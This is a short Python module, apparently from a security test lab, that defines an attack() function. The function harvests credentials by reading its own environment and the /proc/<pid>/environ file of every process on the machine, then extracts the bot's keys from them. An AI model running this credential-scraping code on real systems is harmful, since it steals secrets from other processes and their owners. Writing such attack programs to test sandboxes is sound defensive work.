"""Reads the bot's keys in the environment of every process, its own first."""

from __future__ import annotations

import os
from typing import Any

from tests.lab.attacks.programs.inside import read, secrets_in


def attack(world: dict[str, Any]) -> list[str]:
    own = "\0".join(f"{name}={value}" for name, value in os.environ.items()).encode()
    return secrets_in(own + b"".join(read(f"/proc/{pid}/environ") for pid in os.listdir("/proc") if pid.isdigit()))
